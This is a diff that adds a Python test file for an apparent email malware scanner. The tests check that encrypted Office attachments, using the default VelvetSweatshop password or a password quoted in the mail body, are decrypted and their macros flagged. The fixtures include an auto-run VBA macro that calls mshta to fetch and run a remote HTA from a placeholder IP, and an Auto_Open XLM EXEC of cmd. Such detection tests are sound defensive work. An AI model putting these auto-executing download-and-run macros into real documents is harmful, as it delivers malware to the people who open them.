@@ -1,0 +1,48 @@
+"""Encrypted Office documents: VelvetSweatshop and body passwords open them for the other detectors."""
+
+from kakuri.detect.office_encryption import OfficeEncryption
+from kakuri.detect.office_macros import OfficeMacros
+from kakuri.detect.office_xlm import OfficeXlm
+from kakuri.unpack.passwords import BodyPasswords
+from tests.builders_office import (EMOTET_LIKE_MODULES, docx, encrypt_ooxml, office_findings, symbols_of, xlsx,
+                                   xlsx_by_xlsxwriter)
+
+DETECTORS = [OfficeEncryption(), OfficeMacros(), OfficeXlm()]
+
+
+def test_velvetsweatshop_workbook_is_decrypted_and_its_macro_scanned():
+    xlsm = xlsx(macro={"ThisWorkbook": "Sub Workbook_Open()\n Shell \"mshta http://198.51.100.4/a.hta\"\nEnd Sub\n"})
+    findings = office_findings(DETECTORS, [("請求書.xlsm", encrypt_ooxml(xlsm, "VelvetSweatshop"))])
+    assert {"OFFICE_DEFAULT_PASSWORD", "MACRO_PRESENT", "MACRO_AUTOEXEC", "MACRO_SUSPICIOUS"} <= symbols_of(findings)
+    macro = next(f for f in findings if f.symbol == "MACRO_AUTOEXEC")
+    assert macro.part == "請求書.xlsm/[decrypted] 請求書.xlsm"
+
+
+def test_velvetsweatshop_xlm_workbook_is_decrypted():
+    cells = '<row r="1"><c r="A1"><f>EXEC("cmd /c calc")</f></c></row>'
+    data = encrypt_ooxml(xlsx(macrosheet=cells, defined_names='<definedName name="Auto_Open">Macro1!$A$1</definedName>'),
+                         "VelvetSweatshop")
+    assert {"OFFICE_DEFAULT_PASSWORD", "MACRO_XLM", "MACRO_AUTOEXEC"} <= symbols_of(office_findings(DETECTORS, [("a.xlsm", data)]))
+
+
+def test_document_with_password_in_the_mail_body_is_opened():
+    data = encrypt_ooxml(docx(macro=EMOTET_LIKE_MODULES), "Kx81pq")
+    findings = office_findings(DETECTORS, [("doc.docm", data)], body="添付ファイルのパスワード: Kx81pq\n",
+                               password_sources=[BodyPasswords()])
+    assert {"OFFICE_PASSWORD_IN_MESSAGE", "MACRO_AUTOEXEC"} <= symbols_of(findings)
+
+
+def test_document_with_unknown_password_is_encrypted_and_unscanned():
+    data = encrypt_ooxml(docx(macro=EMOTET_LIKE_MODULES), "not-in-the-mail")
+    findings = office_findings(DETECTORS, [("doc.docm", data)], password_sources=[BodyPasswords()])
+    assert symbols_of(findings) == {"OFFICE_ENCRYPTED"}
+
+
+def test_plain_workbook_is_not_encrypted():
+    assert office_findings(DETECTORS, [("見積.xlsx", xlsx_by_xlsxwriter())]) == []
+
+
+def test_excessive_key_derivation_rounds_are_not_attempted():
+    data = encrypt_ooxml(xlsx_by_xlsxwriter(), "VelvetSweatshop").replace(b'spinCount="100000"', b'spinCount="999999"')
+    findings = office_findings([OfficeEncryption()], [("a.xlsx", data)])
+    assert symbols_of(findings) == {"OFFICE_ENCRYPTED"} and findings[0].evidence["spin_count"] == "999999"
